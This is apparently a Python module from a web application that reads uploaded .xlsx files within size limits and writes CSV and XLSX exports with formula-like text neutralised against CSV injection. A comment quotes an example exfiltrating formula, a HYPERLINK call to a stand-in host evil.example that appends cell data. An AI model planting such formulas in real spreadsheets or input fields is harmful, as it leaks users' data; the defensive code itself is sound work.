"""Spreadsheets in and out: uploaded .xlsx read within limits, exports written with inert text.

Reading: the first sheet of an uploaded .xlsx (rosters, question banks).

An .xlsx is a ZIP archive: a few kilobytes can declare a sheet of 1,048,576 × 16,384 cells (openpyxl
pads every row to the declared width) or unpack to gigabytes. So the archive's unpacked size is
checked first, and the sheet is read within its declared size but never beyond the caller's limits.
"""

import csv
import io
import zipfile
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

MAX_UNPACKED_BYTES = 100 * 1024 * 1024


class SpreadsheetTooLarge(Exception):
    """More rows than the caller allows, or an archive that unpacks to too much."""


class SpreadsheetUnreadable(Exception):
    """Not an .xlsx workbook, or a damaged one."""


def first_sheet_rows(data: bytes, max_rows: int, max_columns: int) -> list[tuple[object, ...]]:
    """The first sheet's rows as tuples of cell values (at most ``max_columns`` each)."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            unpacked = sum(info.file_size for info in archive.infolist())
        if unpacked > MAX_UNPACKED_BYTES:
            raise SpreadsheetTooLarge
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
        sheet = workbook.worksheets[0]
        last_row = min(sheet.max_row or max_rows + 1, max_rows + 1)
        last_column = min(sheet.max_column or max_columns, max_columns)
        rows: list[tuple[object, ...]] = list(
            sheet.iter_rows(max_row=last_row, max_col=last_column, values_only=True)
        )
        workbook.close()
    except SpreadsheetTooLarge:
        raise
    except Exception as error:  # openpyxl and zipfile raise many types for a damaged file
        raise SpreadsheetUnreadable from error
    if len(rows) > max_rows:
        raise SpreadsheetTooLarge
    return rows


# --- writing: every CSV and XLSX export goes through these -----------------------------------------
#
# A name such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` typed into the site must reach the
# office's spreadsheet as text, never as a formula that runs when the file is opened (CSV injection).
# CSV: OWASP's rule, a cell of text starting with one of these characters gets a leading apostrophe,
# which Excel and LibreOffice read as "this is text" (the roster import takes it off again).
# XLSX: every str is written as a string cell, so no <f> formula can come out of our data.
# Numbers stay numbers in both: a correction of −1 hour is a number, not text.

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def inert_csv_cell(value: object) -> object:
    """The value for a CSV cell: text that a spreadsheet would read as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def read_csv_cell(text: str) -> str:
    """Undo :func:`inert_csv_cell` for a cell read back from one of our CSV files."""
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


class InertCsvWriter:
    """``csv.writer`` whose cells go through :func:`inert_csv_cell`."""

    def __init__(self, buffer: io.StringIO, **options: Any) -> None:
        self._writer = csv.writer(buffer, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([inert_csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def new_workbook(title: str) -> tuple[Workbook, Worksheet]:
    """A new workbook and its one sheet, named ``title``."""
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = title
    return workbook, sheet


def workbook_bytes(workbook: Workbook) -> bytes:
    """Save ``workbook`` with every cell that openpyxl took for a formula written as text instead.

    openpyxl makes any str starting with ``=`` a formula cell; the exports hold only data, so no
    formula is ever meant.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
